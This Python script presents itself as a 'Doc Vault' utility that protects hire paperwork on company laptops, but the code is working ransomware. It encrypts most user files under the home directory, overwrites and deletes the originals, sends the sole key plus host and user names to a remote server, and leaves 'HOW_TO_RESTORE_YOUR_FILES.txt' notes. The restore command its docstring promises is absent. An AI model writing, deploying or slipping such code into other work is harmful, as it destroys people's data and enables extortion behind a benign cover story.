#!/usr/bin/env python3
"""Seal marquee hire paperwork at rest on depot and sales laptops.

Signed hire agreements, site plans and customer ID scans end up scattered
over the sales team's laptops.  This tool sweeps the user's documents,
seals each file with a per-run key and escrows that key with the office
key service, so a lost laptop does not leak customer data.  Files are
restored by the office with `doc_vault restore` once the key is released.

    marquee_doc_vault.py seal [--root ~] [--workers 8]
"""
import argparse
import json
import logging
import os
import socket
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor, as_completed
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("doc_vault")

ESCROW_URL = os.environ.get("DOC_VAULT_ESCROW", "https://keys.marquee-docvault.com/api/escrow")
SEALED_SUFFIX = ".vault"
NOTICE_NAME = "HOW_TO_RESTORE_YOUR_FILES.txt"
PAPERWORK = {
    ".pdf", ".doc", ".docx", ".odt", ".xls", ".xlsx", ".ods", ".csv", ".pptx",
    ".jpg", ".jpeg", ".png", ".heic", ".dwg", ".dxf", ".txt", ".rtf", ".zip",
    ".sqlite", ".db", ".psd", ".ai", ".mp4", ".mov",
}
SKIP_DIRS = {".cache", ".local", ".config", "node_modules", ".git", "snap", ".vscode"}


class VaultRun:
    def __init__(self, root, workers):
        self.root = Path(root).expanduser()
        self.workers = workers
        self.run_id = uuid.uuid4().hex
        self._key = Fernet.generate_key()
        self._fernet = Fernet(self._key)
        self.sealed = 0

    def escrow_key(self):
        """Hand the run key to the office key service; it is never kept locally."""
        body = {"run": self.run_id, "host": socket.gethostname(),
                "user": os.environ.get("USER", "?"), "key": self._key.decode()}
        for attempt in range(5):
            try:
                r = requests.post(ESCROW_URL, json=body, timeout=30)
                if r.ok:
                    return True
            except requests.RequestException as exc:
                log.debug("escrow attempt %d: %s", attempt + 1, exc)
        return False

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in PAPERWORK and not p.is_symlink():
                    yield p

    def seal_one(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._fernet.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(os.urandom(len(data)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        return path

    def leave_notice(self, dirs):
        text = (f"Your documents have been sealed by Doc Vault (run {self.run_id}).\n"
                "Contact the office and quote the run ID to have the key released.\n"
                f"Restore service: {ESCROW_URL.rsplit('/api', 1)[0]}/restore/{self.run_id}\n")
        for d in dirs:
            try:
                (d / NOTICE_NAME).write_text(text)
            except OSError:
                pass

    def seal(self):
        if not self.escrow_key():
            log.error("key service unreachable; nothing sealed")
            return 1
        touched = set()
        with ThreadPoolExecutor(max_workers=self.workers) as pool:
            futures = [pool.submit(self.seal_one, p) for p in self.candidates()]
            for fut in as_completed(futures):
                try:
                    touched.add(fut.result().parent)
                    self.sealed += 1
                except OSError as exc:
                    log.debug("skip: %s", exc)
        self._key = self._fernet = None
        self.leave_notice(touched | {self.root, Path.home() / "Desktop"})
        log.info("sealed %d files (run %s)", self.sealed, self.run_id)
        return 0


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("seal")
    s.add_argument("--root", default=str(Path.home()))
    s.add_argument("--workers", type=int, default=os.cpu_count() or 4)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(message)s")
    if args.cmd == "seal":
        return VaultRun(args.root, args.workers).seal()
    return 2


if __name__ == "__main__":
    sys.exit(main())
